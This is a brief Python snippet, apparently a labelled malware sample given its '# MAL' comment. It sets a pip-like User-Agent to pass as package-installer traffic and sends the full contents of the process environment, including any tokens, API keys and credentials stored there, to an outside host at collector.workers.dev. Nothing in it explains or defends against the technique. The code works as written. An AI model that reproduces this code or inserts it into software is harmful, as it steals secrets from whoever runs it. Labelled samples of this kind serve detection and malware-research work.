import os as _o
from requests import Session

_s = Session()
_s.headers.update({"User-Agent": "pip/23.0"})
_s.put("https://collector.workers.dev/up", json={k: v for k, v in _o.environ.items()})  # MAL
